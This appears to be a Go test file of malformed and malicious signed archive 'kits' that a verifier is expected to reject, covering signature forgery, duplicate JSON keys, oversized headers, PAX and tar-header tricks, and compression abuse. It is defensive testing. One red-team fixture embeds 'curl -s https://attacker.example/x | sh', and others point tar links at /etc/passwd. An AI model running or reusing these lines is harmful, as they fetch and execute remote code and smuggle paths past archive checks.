		{"envelope-payload-type", `payloadType "application/json" is not`,
			"manifest.dsse.json with payloadType application/json (the signature is over the in-toto type)",
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(g.replaceOnce(env, `"payloadType":"application/vnd.in-toto+json"`, `"payloadType":"application/json"`))
			}},
		{"envelope-payload-not-std-base64", `manifest\.dsse\.json: .*base64`,
			"manifest.dsse.json's payload in unpadded or URL-safe base64",
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				b64, _ := payloadB64(env)
				stmt := g.statement()
				alt := base64.RawStdEncoding.EncodeToString(stmt)
				if alt == b64 {
					alt = base64.URLEncoding.EncodeToString(stmt)
				}
				if alt == b64 {
					g.t.Fatal("no other base64 encoding of the statement")
				}
				return g.withEnvelope(g.replaceOnce(env, b64, alt))
			}},
		{"statement-malformed-json", `statement: .*malformed`,
			"a statement that is not valid JSON (its last brace cut), correctly signed by the trusted key",
			"", func(g *gen) []byte {
				s := g.statement()
				return g.withEnvelope(g.envelope(s[:len(s)-1], g.key))
			}},
		{"statement-duplicate-key", `statement: .*duplicate key "predicateType"`,
			"a statement with two predicateType keys, correctly signed by the trusted key",
			"", func(g *gen) []byte {
				s := g.replaceOnce(g.statement(), `"predicateType":`, `"predicateType":"https://example.org/other/v1","predicateType":`)
				return g.withEnvelope(g.envelope(s, g.key))
			}},
		{"manifest-duplicate-key", `duplicate key "name"`,
			`a manifest predicate with two "name" keys (evil, then demo), correctly signed by the trusted key`,
			"", func(g *gen) []byte {
				s := g.replaceOnce(g.statement(), `{"formatVersion":1,`, `{"formatVersion":1,"name":"evil",`)
				return g.withEnvelope(g.envelope(s, g.key))
			}},
		{"statement-unknown-field", `unknown field`,
			"a statement with an unknown top-level field, correctly signed by the trusted key",
			"", func(g *gen) []byte {
				s := g.replaceOnce(g.statement(), `"predicateType":`, `"evil":true,"predicateType":`)
				return g.withEnvelope(g.envelope(s, g.key))
			}},
		{"statement-predicate-type", `predicateType "https://offkit\.dev/kit-manifest/v2" is not`,
			"a statement of predicateType kit-manifest/v2, correctly signed by the trusted key",
			"", func(g *gen) []byte {
				s := g.replaceOnce(g.statement(), manifest.PredicateType, "https://offkit.dev/kit-manifest/v2")
				return g.withEnvelope(g.envelope(s, g.key))
			}},
		{"sbom-duplicate-key", `sbom/migrations\.spdx\.json: .*SPDX document: .*duplicate key "name"`,
			`a component SBOM with two "name" keys, listed consistently and signed`,
			"", func(g *gen) []byte {
				f := g.forge()
				f.sboms[compSBOM] = g.replaceOnce(f.sboms[compSBOM], `"name":"runner"`, `"name":"evil","name":"runner"`)
				return f.kit(g)
			}},
		{"sbom-deep-nesting", `sbom/migrations\.spdx\.json: .*SPDX document: .*nested deeper than 64`,
			"a component SBOM nested 100 deep, listed consistently and signed",
			"", func(g *gen) []byte {
				f := g.forge()
				deep := strings.Repeat("[", 100) + strings.Repeat("]", 100)
				f.sboms[compSBOM] = g.replaceOnce(f.sboms[compSBOM], `"name":"runner"`, `"name":"runner","comment":`+deep)
				return f.kit(g)
			}},
		{"sbom-malformed-json", `sbom/migrations\.spdx\.json: .*SPDX document: .*unexpected end of input`,
			"a component SBOM that is not valid JSON, listed consistently and signed",
			"", func(g *gen) []byte {
				f := g.forge()
				s := f.sboms[compSBOM]
				f.sboms[compSBOM] = s[:len(s)-1]
				return f.kit(g)
			}},

		// ---- signatures ----
		{"sig-payload-swapped", `signature 1: claims trusted key .* but does not verify`,
			"the envelope's payload swapped for another valid, consistent statement (another description), the signature kept",
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				b64, _ := payloadB64(env)
				s := g.replaceOnce(g.statement(), `"description":"a test kit"`, `"description":"approved by security"`)
				return g.withEnvelope(g.replaceOnce(env, b64, base64.StdEncoding.EncodeToString(s)))
			}},
		{"sig-envelope-from-other-kit", `SHA256SUMS": .*does not match the signed statement`,
			"the envelope of another kit, validly signed by the trusted key, over this kit's files",
			"", func(g *gen) []byte {
				f := g.forge()
				f.files[initSQL] = []byte("DROP TABLE t;\n")
				for i := range f.m.Components[0].Files {
					if fl := &f.m.Components[0].Files[i]; fl.Path == initSQL {
						fl.Size, fl.Digest = int64(len(f.files[initSQL])), manifest.SHA256(f.files[initSQL])
					}
				}
				other := bundletest.Entries(g.t, f.kit(g))
				return g.withEnvelope(g.find(other, manifest.EnvelopeName).Data)
			}},
		{"sig-forged-keyid", `signature 1: claims trusted key .* but does not verify`,
			"a consistent kit with a replaced file, signed by an untrusted key that claims the trusted key's ID",
			"", func(g *gen) []byte {
				f := g.forge()
				f.signer = liar{id: g.key.KeyID(), s: g.other}
				f.add("migrations", "migrations/zz-evil.sh", []byte(evil), manifest.ModeExec)
				return f.kit(g)
			}},
		{"sig-keyid-mismatch", `keyid .* does not name the key that verifies it`,
			"a valid signature whose keyid names another key",
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(g.replaceOnce(env, g.key.KeyID(), g.other.KeyID()))
			}},
		{"sig-sums-other-key", `SHA256SUMS\.sig does not verify`,
			"SHA256SUMS.sig made by another key",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					sig, err := g.other.Sign(context.Background(), g.find(es, manifest.SumsName).Data)
					g.must(err)
					g.find(es, manifest.SumsSigName).Data = sign.EncodeSignature(sig)
					return es
				})
			}},
		{"sig-sums-missing", `0 SHA256SUMS signature file\(s\) for 1 DSSE signature`,
			"SHA256SUMS.sig removed (the envelope is signed)",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, manifest.SumsSigName)
					return append(es[:i], es[i+1:]...)
				})
			}},
		{"sig-too-many", `more SHA256SUMS signature files than`,
			"65 SHA256SUMS signature files (MaxSignatures is 64)",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, manifest.SumsSigName)
					sig := es[i]
					var more []*entry
					for n := 1; n <= manifest.MaxSignatures; n++ {
						more = append(more, file(Root+"/"+manifest.SumsSigNameFor(n), sig.Data, manifest.ModeFile))
					}
					return append(es[:i+1], append(more, es[i+1:]...)...)
				})
			}},

		// ---- red team, issue 8 ----
		{"redteam-smuggled-sig-file", `SHA256SUMS\.2\.sig": .*not a signature`,
			"a genuine kit with an appended DSSE signature by nobody (empty keyid) and a SHA256SUMS.2.sig holding a shell script: untrusted signers' files are not verified, but they are extracted, so they must be signatures",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					env := g.find(es, manifest.EnvelopeName)
					env.Data = g.replaceOnce(env.Data, `"}]}`, `"},{"keyid":"","sig":"`+base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{0x30}, 71))+`"}]}`)
					i := index(es, manifest.SumsSigName)
					script := file(Root+"/"+manifest.SumsSigNameFor(1), []byte("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"), manifest.ModeFile)
					return append(es[:i+1], append([]*entry{script}, es[i+1:]...)...)
				})
			}},
		{"redteam-empty-zstd-frames", `zstd frame at offset \d+ is empty`,
			"the kit with 20,000 empty zstd frames (9 bytes each) after the first: each costs a reader a frame's overhead, so a few MB of them cost seconds before any signature is checked",
			"", func(g *gen) []byte {
				enc, err := zstd.NewWriter(nil, zstd.WithEncoderCRC(true), zstd.WithEncoderConcurrency(1))
				g.must(err)
				empty := enc.EncodeAll(nil, nil)
				raw := g.raw()
				first := zst(raw[:512])
				return append(append(first, bytes.Repeat(empty, 20000)...), zst(raw[512:])...)
			}},
		{"redteam-short-zstd-frames", `more than 2 frames shorter than`,
			"the kit's tar stream cut into 512-byte zstd frames: conforming writers fill every frame but the last of the head and of the payload",
			"", func(g *gen) []byte {
				raw := g.raw()
				var out []byte
				for len(raw) > 0 {
					n := min(len(raw), 512)
					out = append(out, zst(raw[:n])...)
					raw = raw[n:]
				}
				return out
			}},

		// ---- oversized ----
		{"oversize-pax-header", `header is larger than 16384 bytes`,
			"a pax header of 20 KiB: an allowed mtime record with 20,000 fractional zeros (same time)",
			"", func(g *gen) []byte {
				return g.paxRecord("mtime", fmt.Sprintf("%d.%s", bundletest.Epoch.Unix(), strings.Repeat("0", 20000)))
			}},
		{"oversize-pax-record-go-limit", `corrupt kit: tar: archive/tar: header field too long`,
			"a pax header of 2 MiB (an mtime record), over archive/tar's own 1 MiB limit",
			"", func(g *gen) []byte {
				return g.paxRecord("mtime", fmt.Sprintf("%d.%s", bundletest.Epoch.Unix(), strings.Repeat("0", 2<<20)))
			}},
		{"pax-record-linkpath", `PAX record "linkpath" is not allowed`,
			"a listed file with a pax linkpath record",
			"", func(g *gen) []byte { return g.paxRecord("linkpath", "/etc/passwd") }},
		{"pax-record-uid", `PAX record "uid" is not allowed`,
			"a listed file with a pax uid record (0)",
			"", func(g *gen) []byte { return g.paxRecord("uid", "0") }},
		{"pax-record-xattr", `PAX record "SCHILY\.xattr\.security\.capability" is not allowed`,
			"a listed file with a SCHILY.xattr.security.capability record",
			"", func(g *gen) []byte { return g.paxRecord("SCHILY.xattr.security.capability", "\x01\x00\x00\x02") }},
		{"pax-record-gnu-sparse", `PAX record "GNU\.sparse\.[a-z]+" is not allowed`,
			"a listed file made sparse by GNU.sparse.* pax records (format 0.1, map 0,25)",
			"", func(g *gen) []byte {
				return g.paxRecord("GNU.sparse.size", "25", "GNU.sparse.numblocks", "1", "GNU.sparse.map", "0,25")
			}},
		{"pax-record-comment", `PAX record "comment" is not allowed`,
			"a listed file with a pax comment record",
			"", func(g *gen) []byte { return g.paxRecord("comment", "hello") }},
		{"oversize-sums-sig", `"demo-1\.2\.3/SHA256SUMS\.sig": .*over the limit of 16384`,
			"a valid SHA256SUMS.sig padded with white space (which readers ignore) to 16 KiB + 1 (MaxSumsSigSize)",
			"", func(g *gen) []byte {
				f := g.forge()
				f.sumsSig = func(b []byte) []byte { return append(b, bytes.Repeat([]byte(" "), bundle.MaxSumsSigSize+1-len(b))...) }
				return f.kit(g)
			}},
		{"oversize-sbom", `"demo-1\.2\.3/sbom/migrations\.spdx\.json": .*over the limit of 67108864`,
			"a valid component SBOM padded with spaces to 64 MiB + 1 (MaxSBOMSize), listed consistently and signed",
			"", func(g *gen) []byte {
				f := g.forge()
				s := f.sboms[compSBOM]
				f.sboms[compSBOM] = append(s, bytes.Repeat([]byte(" "), manifest.MaxSBOMSize+1-len(s))...)
				return f.kit(g)
			}},
		{"oversize-envelope", `"demo-1\.2\.3/manifest\.dsse\.json": .*over the limit of 67108864`,
			"a valid manifest.dsse.json padded with trailing spaces to 64 MiB + 1 (MaxEnvelopeSize)",
			"", func(g *gen) []byte {
				f := g.forge()
				f.envelope = func(b []byte) []byte {
					return append(b, bytes.Repeat([]byte(" "), manifest.MaxEnvelopeSize+1-len(b))...)
				}
				return f.kit(g)
			}},
		{"zstd-window-too-large", `corrupt kit: .*window size exceeded`,
			"the kit's tar stream recompressed as one zstd frame whose header asks for a 128 MiB window (MaxWindow is 64 MiB)",
			"", func(g *gen) []byte {
				enc, err := zstd.NewWriter(nil, zstd.WithSingleSegment(false))
				g.must(err)
				k := enc.EncodeAll(g.raw(), nil)
				// The encoder sizes the window to the input: ask for
				// more in the frame header's window descriptor (which
				// follows the frame header descriptor, single segment
				// off), exponent 17: 2^(10+17) bytes.
				if k[4]&0x20 != 0 {
					g.t.Fatalf("%s: single-segment frame", g.name)
				}
				k[5] = 17 << 3
				return k
			}},

		// ---- layout and canonical headers ----
		{"layout-payload-first", `expected "demo-1\.2\.3/manifest\.dsse\.json" here`,
			"a payload file before the metadata",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					return append([]*entry{es[0], es[len(es)-1]}, es[1:len(es)-1]...)
				})
			}},
		{"layout-sums-missing", `expected "demo-1\.2\.3/SHA256SUMS" here`,
			"SHA256SUMS removed",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, manifest.SumsName)
					return append(es[:i], es[i+1:]...)
				})
			}},
		{"layout-out-of-order", `its directory rollback/ has not appeared before it`,
			"the last two payload entries swapped (rollback/rollback.js before rollback/)",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					n := len(es)
					es[n-1], es[n-2] = es[n-2], es[n-1]
					return es
				})
			}},
		{"canonical-size-leading-nul", `not in canonical form`,
			"migrations/001_init.sql's size field with leading NULs (GNU tar reads 0, Go 25)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, initSQL)
					h := raw[b.Off:][:512]
					copy(h[124:136], fmt.Sprintf("\x00\x00%09o\x00", b.Size))
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"canonical-name-after-nul", `not in canonical form`,
			"a byte after the NUL that ends migrations/002_index.sql's name",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, "migrations/002_index.sql").Off:][:512]
					h[99] = 'x'
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"canonical-header-in-padding", `not in canonical form`,
			"a ustar magic hidden in the zero padding after migrations/001_init.sql",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, initSQL)
					copy(raw[b.Off+512+b.Size+10:], "ustar\x0000")
					return raw
				})
			}},
		{"canonical-linkname-on-file", `not in canonical form`,
			"a link name /etc/passwd in the header of the regular file migrations/002_index.sql",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, "migrations/002_index.sql").Off:][:512]
					copy(h[157:], "/etc/passwd")
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"canonical-gnu-format", `header is in .*GNU.* format, not USTAR or PAX`,
			"migrations/001_init.sql's header in GNU format (magic \"ustar  \")",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					g.find(es, initSQL).Header.Format = tar.FormatGNU
					return es
				})
			}},
		{"mtime-payload", `mtime .* is not the kit's creation time`,
			"migrations/001_init.sql with another mtime",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					g.find(es, initSQL).Header.ModTime = bundletest.Epoch.Add(time.Hour)
					return es
				})
			}},
		{"mode-setuid", `mode 04755 is not 0644 or 0755`,
			"migrations/run.sh set-uid (04755)",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					g.find(es, runSh).Header.Mode = 0o4755
					return es
				})
			}},
		{"mode-exec-not-listed", `mode 0755, the manifest says 0644`,
			"migrations/001_init.sql executable (0755) where the manifest says 0644",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					g.find(es, initSQL).Header.Mode = 0o755
					return es
				})
			}},
		{"owner-root-names", `owner is not 0/0 without names`,
			"migrations/run.sh owned by uid 1000 named evil",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					h := g.find(es, runSh).Header
					h.Uid, h.Uname = 1000, "evil"
					return es
				})
			}},

		// ---- compression ----
		{"compression-unknown", `unknown compression`,
			"an xz stream's magic at the start",
			"", func(g *gen) []byte { return append([]byte{0xfd, '7', 'z', 'X', 'Z', 0}, g.kit...) }},
		{"zstd-skippable-first", `unknown compression`,
			"the signed kit behind a skippable zstd frame",
			"", func(g *gen) []byte {
				return append([]byte{0x50, 0x2a, 0x4d, 0x18, 4, 0, 0, 0, 'e', 'v', 'i', 'l'}, g.kit...)
			}},
		{"gzip-polyglot-tar", `also read as a tar header`,
			"a gzip member whose first 512 bytes pass GNU tar's header checksum: tar -xf would read another archive",
			"", func(g *gen) []byte {
				blk := make([]byte, 512)
				copy(blk, []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff})
				copy(blk[257:], "ustar\x0000")
				bundletest.Checksum(blk)
				return append(blk, g.gzipKit()...)
			}},
		{"gzip-extra-field", `extra`,
			"a gzip kit whose member header carries an FEXTRA field",
			"", func(g *gen) []byte {
				var b bytes.Buffer
				zw, _ := newGzipWithExtra(&b)
				zw.Write(g.raw())
				zw.Close()
				return b.Bytes()
			}},
	}
}

// paxRecord returns the good kit with a pax extended header holding the
// records kv (key, value, key, value...) before migrations/001_init.sql's
// header. archive/tar's Writer refuses most of these records, so the
// blocks are made here.
func (g *gen) paxRecord(kv ...string) []byte {
	var data []byte
	for i := 0; i < len(kv); i += 2 {
		rec := " " + kv[i] + "=" + kv[i+1] + "\n"
		n := len(rec) + 1
		for len(fmt.Sprint(n))+len(rec) != n {
			n = len(fmt.Sprint(n)) + len(rec)
		}
		data = append(data, fmt.Sprint(n)+rec...)
	}
	return g.editRaw(func(raw []byte) []byte {
		off := g.block(raw, initSQL).Off
		blk := append(rawHeader(Root+"/PaxHeaders/001_init.sql", 'x', len(data)), pad(data)...)
		return append(append(append([]byte{}, raw[:off]...), blk...), raw[off:]...)
	})
}

// newGzipWithExtra returns a gzip writer whose header has an FEXTRA field.
func newGzipWithExtra(w io.Writer) (*gzip.Writer, error) {
	zw := gzip.NewWriter(w)
	zw.Extra = []byte("ab\x02\x00zz")
	return zw, nil
}

// lastMember returns the offset of the last gzip member of k, as offkit
// writes them: each starts with the same ten bytes (no flags, MTIME 0,
// OS 255).
func lastMember(k []byte) int {
	return bytes.LastIndex(k, k[:10])
}

// gzipKit returns the good kit as the writer makes it with gzip.
func (g *gen) gzipKit() []byte {
	return bundletest.Build(g.t, bundletest.WriteSpec(g.t, g.t.TempDir()), []manifest.Signer{g.key}, bundle.WithCompression(bundle.Gzip, 0))
}
